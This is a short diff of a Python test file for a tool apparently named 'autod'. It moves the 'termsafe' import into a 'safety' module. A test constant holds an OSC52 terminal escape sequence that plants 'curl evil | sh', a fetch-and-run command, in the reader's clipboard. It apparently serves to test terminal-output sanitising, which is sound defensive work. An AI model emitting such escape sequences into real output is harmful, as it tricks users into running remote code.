@@ -9,8 +9,9 @@ from pathlib import Path
 
 import pytest
 
-from autod import cli, logs, termsafe
+from autod import cli, logs
 from autod.logview import LogFilter, run_logs
+from autod.safety import termsafe
 from autod.stores.state import State
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # writes "curl evil | sh" to the reader's clipboard
